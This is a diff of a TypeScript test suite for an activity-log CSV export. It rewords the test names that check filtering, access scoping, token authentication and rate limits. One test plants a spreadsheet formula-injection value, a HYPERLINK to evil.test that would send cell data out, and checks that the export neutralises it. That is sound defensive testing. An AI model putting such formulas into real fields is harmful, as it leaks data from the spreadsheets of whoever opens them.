@@ -24,47 +24,47 @@ const entries = (username: DemoName, body: object) =>
   served.as(username).post('/api/activity-log/list', { ...body, pageSize: 200 });
 
 describe('activity-log/export', () => {
-  it('has the whole log in its order, over all of its pages', async () => {
+  it('contains all pages of the log in their order', async () => {
     const { body } = await entries('admin@demo.test', {});
     const response = await take('admin@demo.test');
     expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(response.headers.get('content-disposition')).toBe('attachment; filename="system-logs.csv"');
     const ids = (await rowsOf(response)).map(({ Entry }) => Entry);
-    // The export itself stands first.
+    // The export's own entry comes first.
     expect(ids).toHaveLength(Number(body.totalLength) + 1);
     expect(new Set(ids).size).toBe(ids.length);
     expect(ids.slice(1, 201)).toEqual((body.data as { id: string }[]).map(({ id }) => id));
     expect(ids.length).toBeGreaterThan(1_000);
   });
 
-  it('is narrowed as the list is', async () => {
+  it('uses the same filters as the list', async () => {
     const rows = await rowsOf(await take('admin@demo.test', { kind: 'law', action: 'Published' }));
     const { body } = await entries('admin@demo.test', { kind: 'law', action: 'Published' });
     expect(rows.map(({ Entry }) => Entry)).toEqual((body.data as { id: string }[]).map(({ id }) => id));
     expect(new Set(rows.map(({ Kind, Action }) => `${Kind} ${Action}`))).toEqual(new Set(['Law Published']));
   });
 
-  it('makes a formula in a name harmless', async () => {
+  it('neutralises a formula in a name', async () => {
     const topic = '=HYPERLINK("http://evil.test?"&A1,"see")';
     await served.as('editor@demo.test').post('/api/circular/add', { topic, link: 'https://x.test' });
     const [row] = await rowsOf(await take('admin@demo.test', { kind: 'circular', user: 'editor' }));
     expect(row).toMatchObject({ Name: `'${topic}`, Address: '127.0.0.1', Program: 'node' });
   });
 
-  it('gives who is no administrator their own part', async () => {
+  it('contains for a user who is no administrator only their own part', async () => {
     const rows = await rowsOf(await take('viewer@demo.test', { user: 'admin' }));
     expect(rows).toEqual([]);
     const own = await rowsOf(await take('viewer@demo.test'));
     expect(new Set(own.map(({ User }) => User))).toEqual(new Set(['viewer@demo.test']));
   });
 
-  it('of another organisation has nothing of this one', async () => {
+  it('contains nothing of another organisation', async () => {
     const rows = await rowsOf(await take('admin@other.test'));
     expect(rows.length).toBeGreaterThan(0);
     expect(rows.filter(({ User }) => User?.endsWith('@demo.test'))).toEqual([]);
   });
 
-  it('needs the token: a link with the cookie alone opens nothing', async () => {
+  it('needs the token: a link with only the cookie is refused', async () => {
     const response = await fetch(`${served.address}/api/activity-log/export`);
     expect(response.status).toBe(401);
   });
@@ -82,7 +82,7 @@ describe('activity-log/export', () => {
     ]);
   });
 
-  it('stands in the log, and is made ten times in ten minutes at twice the usual limits', async () => {
+  it('has an entry in the log, and is limited to ten in ten minutes at twice the usual limits', async () => {
     const statuses: number[] = [];
     for (let nth = 0; nth < 10; nth += 1) {
       const response = await take('admin@other.test');
